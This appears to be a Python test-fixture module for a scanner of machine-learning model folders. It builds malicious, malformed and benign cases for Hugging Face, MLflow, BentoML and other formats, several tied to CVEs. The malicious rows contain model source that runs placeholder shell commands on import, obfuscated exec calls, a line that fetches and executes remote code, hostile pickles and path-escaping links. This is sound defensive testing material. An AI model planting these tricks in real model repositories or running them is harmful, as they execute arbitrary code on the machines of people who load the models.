"""Folders as hubs and registries keep them: what is loaded beside the weights."""

import json

from ..assemble.compress import gzip_stream
from ..assemble.archives import tarred
from ..assemble.payload import COMMAND, NOWHERE
from ..assemble.pickles import EVIL_STREAM, HONEST_STREAM, stream, value
from ..assemble.torch_files import torch_zip
from ..case import Link, Row, benign_table, malformed_table, malicious_table
from .safetensors_files import HONEST, entry, tensors
from .zips import HOSTILE

WEIGHTS = tensors(HONEST, bytes(16))
ACTS = f"import os\n\nfrom transformers import PreTrainedModel\n\nos.system({COMMAND!r})\n\n\nclass Net(PreTrainedModel):\n    pass\n"
DATA_CARD = "---\nlicense: mit\ntask_categories:\n- text-classification\n---\n# Words\n"
MODEL_CARD = "---\nlicense: mit\npipeline_tag: text-generation\nlibrary_name: transformers\n---\n# Words\n"
BUILDER = "import os\n\nimport datasets\n\n{act}\n\n\nclass Words(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo()\n"
MODEL = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8}


def folder(config=None, **files):
    return {"config.json": json.dumps(MODEL | (config or {})), "model.safetensors": WEIGHTS} | files


def mapped(source, name="modeling_net.py", config=None):
    return folder({"auto_map": {"AutoModel": "modeling_net.Net"}} | (config or {}), **{name: source})


@malicious_table()
def hub():
    sources = {
        "import-time": ACTS,
        "import-time-decoded": "import base64\nexec(base64.b64decode('cGFzcw=='))\n\n\nclass Net:\n    pass\n",
        "class-body": f"import os\n\n\nclass Net:\n    started = os.system({COMMAND!r})\n",
        "decorator": f"import os\n\n\ndef mark(kind):\n    os.system({COMMAND!r})\n    return kind\n\n\n@mark\nclass Net:\n    pass\n",
        "default-argument": f"import os\n\n\nclass Net:\n    def forward(self, x=os.system({COMMAND!r})):\n        return x\n",
        "constructor": f"import subprocess\n\n\nclass Net:\n    def __init__(self, config):\n        subprocess.run({COMMAND!r}, shell=True)\n",
        "forward": f"class Net:\n    def forward(self, x):\n        __import__('os').system({COMMAND!r})\n        return x\n",
        "getattr": f"import os as _o\n\ngetattr(_o, 'sys' + 'tem')({COMMAND!r})\n\n\nclass Net:\n    pass\n",
        "fetch": f"import urllib.request\n\n\nclass Net:\n    def __init__(self, config):\n        exec(urllib.request.urlopen({NOWHERE!r}).read())\n",
        "pickle": "import pickle\n\n\nclass Net:\n    def __init__(self, config):\n        pickle.load(open('state.bin', 'rb'))\n",
        "library": "import ctypes\n\nctypes.CDLL('./libhelper.so')\n\n\nclass Net:\n    pass\n",
        "relative-import": "from .helpers import start\n\n\nclass Net:\n    pass\n",
        "type-comment": f"class Meta(type):\n    def __init__(cls, *parts):\n        __import__('os').system({COMMAND!r})\n\n\nclass Net(metaclass=Meta):\n    pass\n",
    }
    for name, source in sources.items():
        made = mapped(source) | ({"helpers.py": ACTS} if name == "relative-import" else {"state.bin": EVIL_STREAM} if name == "pickle" else {})
        yield Row(f"auto-map-{name}", f"auto_map to source that acts: {name.replace('-', ' ')}", "model-files note, section 4", made)
    others = {
        "auto-map-other-repository": ("auto_map to another repository", "CVE-2025-66448", folder({"auto_map": {"AutoModel": "example/helpers--modeling_net.Net"}})),
        "auto-map-vision": ("auto_map to another repository inside a part of the configuration", "CVE-2025-66448", folder({"vision_config": {"auto_map": {"AutoModel": "example/helpers--modeling_net.Net"}}})),
        "auto-map-missing": ("auto_map to a source that is not there", "own", folder({"auto_map": {"AutoModel": "modeling_net.Net"}})),
        "auto-map-folder": ("auto_map to a source above the folder", "own", folder({"auto_map": {"AutoModel": "../../helpers.Net"}})),
        "auto-map-tokenizer": ("a tokenizer with source of its own", "model-files note, section 4", folder(**{"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_net.Words", None]}}), "tokenization_net.py": ACTS})),
        "auto-map-processor": ("a processor with source of its own", "own", folder(**{"preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "processing_net.Net"}}), "processing_net.py": ACTS})),
        "custom-generate": ("custom_generate", "model-files note, section 4", folder(**{"custom_generate/generate.py": f"import os\n\n\ndef generate(model, **options):\n    os.system({COMMAND!r})\n"})),
        "custom-pipeline": ("custom_pipelines", "own", folder({"custom_pipelines": {"sort": {"impl": "pipeline.Sort", "pt": ["AutoModel"]}}}, **{"pipeline.py": ACTS})),
        "remote-code": ("trust_remote_code turned on in the configuration", "own", folder({"trust_remote_code": True, "auto_map": {"AutoModel": "example/helpers--net.Net"}})),
        "requirements": ("requirements from another index", "own", mapped("class Net:\n    pass\n") | {"requirements.txt": "--extra-index-url http://127.0.0.1:9/simple\nnet-helpers\n"}),
        "handler": ("an endpoint's handler that acts when imported", "own", folder(**{"handler.py": f"import os\n\nos.system({COMMAND!r})\n\n\nclass EndpointHandler:\n    pass\n"})),
        "pickle-beside": ("honest safetensors, hostile pytorch_model.bin", "own", folder(**{"pytorch_model.bin": torch_zip(HOSTILE)})),
        "pickle-optimizer": ("a hostile optimizer.pt beside honest weights", "own", folder(**{"optimizer.pt": torch_zip(HOSTILE)})),
        "pickle-arguments": ("a hostile training_args.bin", "own", folder(**{"training_args.bin": EVIL_STREAM})),
        "pickle-scheduler": ("a hostile random state", "own", folder(**{"rng_state_0.pth": torch_zip(HOSTILE)})),
        "pickle-in-shard": ("the second shard of pytorch_model.bin is hostile", "own", {"config.json": json.dumps(MODEL), "pytorch_model.bin.index.json": json.dumps({"metadata": {}, "weight_map": {"a": "pytorch_model-00001-of-00002.bin", "b": "pytorch_model-00002-of-00002.bin"}}), "pytorch_model-00001-of-00002.bin": torch_zip(), "pytorch_model-00002-of-00002.bin": torch_zip(HOSTILE)}),
        "index-climbs": ("an index that names a shard above the folder", "own", {"config.json": json.dumps(MODEL), "model.safetensors.index.json": json.dumps({"metadata": {}, "weight_map": {"weight": "../../other/model.safetensors"}}), "model.safetensors": WEIGHTS}),
        "adapter-base": ("an adapter whose base is a path of its own", "own", {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "../other-model", "auto_mapping": {"base_model_class": "Net", "parent_library": "helpers"}}), "adapter_model.safetensors": WEIGHTS}),
        "adapter-pickle": ("an adapter as a hostile pickle", "own", {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "example/base"}), "adapter_model.bin": torch_zip(HOSTILE)}),
        "sentence-modules": ("modules.json that names a class of another package", "own", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "helpers.models.Transformer"}]), "helpers.py": ACTS, "config.json": json.dumps(MODEL), "model.safetensors": WEIGHTS}),
        "diffusers-class": ("model_index.json that names a class of another package", "own", {"model_index.json": json.dumps({"_class_name": ["pipeline", "Net"], "unet": ["helpers", "Net"]}), "pipeline.py": ACTS}),
        "tokenizer-pickle": ("a vocabulary that is a pickle", "CVE-2024-11392", folder(**{"vocab.pkl": EVIL_STREAM, "tokenizer_config.json": '{"tokenizer_class": "TransfoXLTokenizer"}'})),
        "retriever-pickle": ("an index of passages that is a pickle", "CVE-2023-6730", folder({"model_type": "rag"}, **{"psgs_w100.tsv.pkl": EVIL_STREAM, "hf_bert_base.hnswSQ8_correct_phi_128.c_index.index_meta.dpr": EVIL_STREAM})),
        "tensorflow-lambda": ("tf_model.h5 that is a pickle", "CVE-2024-3568", folder(**{"tf_model.h5": EVIL_STREAM})),
        "weights-link": ("the weights are a symbolic link that leads out", "own", {"config.json": json.dumps(MODEL), "model.safetensors": Link("/etc/hostname")}),
        "quantiser-module": ("a quantisation configuration that names a module", "own", folder({"quantization_config": {"quant_method": "custom", "modules_to_import": ["helpers"]}}, **{"helpers.py": ACTS})),
        "kernel-hub": ("a configuration that takes kernels from elsewhere", "own", folder({"attn_implementation": "example/helper-kernels"})),
        "dataset-script": ("a data set with a loading script that acts", "own", {"README.md": "---\nlicense: mit\n---\n", "words.py": f"import os\n\nos.system({COMMAND!r})\n", "dataset_infos.json": "{}"}),
        "dataset-card": ("a data set told by its card, with a loading script that acts", "own", {"README.md": DATA_CARD, "words.py": BUILDER.format(act=f"os.system({COMMAND!r})")}),
        "dataset-alone": ("a loading script that acts, alone", "own", {"words.py": BUILDER.format(act=f"os.system({COMMAND!r})")}),
        "dataset-named": ("a script named as the folder of a data set", "own", {"README.md": DATA_CARD, "dataset-named.py": ACTS, "more.py": "x = 1\n"}),
        "card-handler": ("a model told by its card, without weights, with a handler that acts", "own", {"README.md": MODEL_CARD, "handler.py": ACTS}),
        "card-modeling": ("a model told by its card, without weights, with a part that acts", "own", {"README.md": MODEL_CARD, "modeling_words.py": ACTS}),
        "card-generate": ("a model told by its card, with a way of generating that acts", "own", {"README.md": MODEL_CARD, "custom_generate/generate.py": ACTS}),
        "start-up-file": ("a start-up file of Python in the folder", "own", folder(**{"sitecustomize.py": ACTS})),
    }
    for name, (mechanism, source, content) in others.items():
        yield Row(name, mechanism, source, content)


def mlmodel(**flavor):
    lines = ["artifact_path: model", "flavors:", "  python_function:"]
    return "\n".join(lines + [f"    {key}: {held}" for key, held in flavor.items()]) + "\n"


@malicious_table()
def registries():
    rows = {
        "mlflow-loader": ("MLflow's loader_module with its code", "model-files note, section 4", {"MLmodel": mlmodel(loader_module="loader", code="code", data="data"), "code/loader.py": ACTS, "data/model.bin": b"x"}),
        "mlflow-loader-named": ("MLflow's loader_module of an installed package", "CVE-2024-37052", {"MLmodel": mlmodel(loader_module="subprocess")}),
        "mlflow-code": ("MLflow's code beside an honest loader", "model-files note, section 4", {"MLmodel": mlmodel(loader_module="mlflow.sklearn", code="code", model_path="model.pkl"), "code/sitecustomize.py": ACTS, "model.pkl": HONEST_STREAM}),
        "mlflow-pickle": ("MLflow's model.pkl", "CVE-2024-37054", {"MLmodel": mlmodel(loader_module="mlflow.sklearn", model_path="model.pkl"), "model.pkl": EVIL_STREAM}),
        "mlflow-python-model": ("MLflow's python_model.pkl", "CVE-2024-37055", {"MLmodel": mlmodel(loader_module="mlflow.pyfunc.model", python_model="python_model.pkl"), "python_model.pkl": EVIL_STREAM}),
        "mlflow-model-code": ("MLflow's model as code", "CVE-2024-37060", {"MLmodel": mlmodel(loader_module="mlflow.pyfunc.model", model_code_path="agent.py"), "agent.py": ACTS}),
        "mlflow-climbs": ("MLflow's model_path above the folder", "CVE-2024-37052", {"MLmodel": mlmodel(loader_module="mlflow.sklearn", model_path="../../other/model.pkl")}),
        "mlflow-torch-module": ("MLflow's pickle module named in a file", "CVE-2024-37059", {"MLmodel": mlmodel(loader_module="mlflow.pytorch"), "data/pickle_module_info.txt": "helpers", "data/model.pth": torch_zip(), "code/helpers.py": ACTS}),
        "mlflow-recipe": ("MLflow's entry point runs a command", "CVE-2024-37060", {"MLproject": f"name: net\nentry_points:\n  main:\n    command: \"{COMMAND}\"\n"}),
        "bentoml-runner": ("a BentoML model saved by pickle", "own", {"model.yaml": "name: net\nversion: a1\nmodule: bentoml.picklable_model\n", "saved_model.pkl": EVIL_STREAM}),
        "bentoml-service": ("a BentoML service whose source acts", "own", {"bento.yaml": "service: service:svc\nname: net\n", "src/service.py": ACTS}),
        "bentoml-archive.bento": ("the same as one archive", "own", gzip_stream(tarred([("bento.yaml", b"service: service:svc\nname: net\n"), ("src/service.py", ACTS.encode())]))),
        "ray-checkpoint": ("a Ray checkpoint with a hostile dictionary", "own", {"dict_checkpoint.pkl": EVIL_STREAM, ".is_checkpoint": b""}),
        "spacy-configuration": ("a spaCy pipeline whose configuration names a function", "own", {"config.cfg": "[nlp]\nlang = \"en\"\n\n[initialize.before_init]\n@callbacks = \"helpers.start.v1\"\n", "meta.json": "{\"name\": \"net\"}"}),
        "spacy-pickle": ("a spaCy pipeline with a hostile pickle", "own", {"config.cfg": "[nlp]\nlang = \"en\"\n", "meta.json": "{\"name\": \"net\"}", "tagger/state.pkl": EVIL_STREAM}),
        "triton-python": ("a Triton repository with a Python backend", "own", {"net/config.pbtxt": 'name: "net"\nbackend: "python"\n', "net/1/model.py": ACTS}),
        "vllm-embeddings": ("prompt embeddings as a hostile PyTorch file", "CVE-2025-24357", {"prompt_embeds.pt": torch_zip(HOSTILE)}),
    }
    for name, (mechanism, source, content) in rows.items():
        yield Row(name, mechanism, source, content)


@malformed_table()
def broken():
    index = {"metadata": {"total_size": 32}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}
    first = tensors({"a": entry(0, 16)}, bytes(16))
    yield Row("sizes", "a configuration of sizes of 2^30, and weights of a few", "own", folder({"hidden_size": 1 << 30, "vocab_size": 1 << 31, "num_hidden_layers": 1 << 20}))
    yield Row("shard-missing", "an index whose second shard is missing", "own", {"config.json": json.dumps(MODEL), "model.safetensors.index.json": json.dumps(index), "model-00001-of-00002.safetensors": first})
    yield Row("shard-other-tensors", "a shard without the tensor that the index says", "own", {"config.json": json.dumps(MODEL), "model.safetensors.index.json": json.dumps(index), "model-00001-of-00002.safetensors": first, "model-00002-of-00002.safetensors": tensors({"c": entry(0, 16)}, bytes(16))})
    yield Row("large-file-pointer", "a Git LFS pointer in the place of the weights", "own", {"config.json": json.dumps(MODEL), "model.safetensors": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 16\n"})


@benign_table()
def honest():
    yield Row("honest", "a configuration and weights", "own", folder())
    yield Row("honest-adapter", "an adapter", "own", {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "example/base", "r": 4, "target_modules": ["q_proj"]}), "adapter_model.safetensors": WEIGHTS, "README.md": "# Adapter\n"})
    yield Row("honest-pickle", "an honest pytorch_model.bin", "own", {"config.json": json.dumps(MODEL), "pytorch_model.bin": torch_zip()})
    yield Row("honest-modules", "the modules of a sentence encoder", "own", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]), "config.json": json.dumps(MODEL), "model.safetensors": WEIGHTS})
    yield Row("honest-data", "a data set of a table, with a program that made it beside", "own", {"README.md": DATA_CARD, "train.csv": "text,label\na,0\n", "convert.py": "import subprocess\n\nsubprocess.run([\"true\"])\n", "main.py": "x = 1\n"})
    yield Row("honest-mlflow", "an MLflow model with honest weights", "own", {"MLmodel": mlmodel(loader_module="mlflow.sklearn", model_path="model.pkl"), "model.pkl": stream(value({"weights": [0.5]})), "requirements.txt": "scikit-learn==1.5.2\n"})


